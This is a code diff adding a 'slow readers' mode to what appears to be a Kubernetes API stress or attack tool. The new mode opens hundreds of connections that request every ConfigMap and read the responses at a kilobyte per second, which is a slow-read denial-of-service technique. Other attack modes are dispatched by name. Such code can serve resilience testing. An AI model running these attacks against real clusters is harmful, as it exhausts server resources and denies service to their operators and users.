@@ -73,7 +73,29 @@ async function holdAll(hold: (done: () => void) => Socket): Promise<void> {
   begun();
 }
 
+/** Each asks for all ConfigMaps and takes a kilobyte of them a second, until it is cut. */
+async function readSlowly(): Promise<void> {
+  for (let opened = 0; opened < Number(number); opened += 100) {
+    // One has no more than 128 connections.
+    const asks = await openApi(kubeconfig);
+    const answers = Array.from({ length: Math.min(100, Number(number) - opened) }, async () => {
+      const response = await asks.send("GET", "/api/v1/configmaps");
+      count(response.statusCode ?? 0);
+      const timer = setInterval(() => response.read(1024), 1000);
+      response.on("readable", () => undefined);
+      response.on("error", () => undefined);
+      response.once("close", () => {
+        clearInterval(timer);
+        count("closed");
+      });
+    });
+    await Promise.all(answers);
+  }
+  begun();
+}
+
 const hold = holds[name];
 if (hold !== undefined) await holdAll(hold);
+else if (name === "slow readers") await readSlowly();
 else if (attackNames.includes(name)) for (let n = 0; n < Number(number); n += 1) void askOn(api);
 else throw new Error(`there is no attack ${JSON.stringify(name)}`);
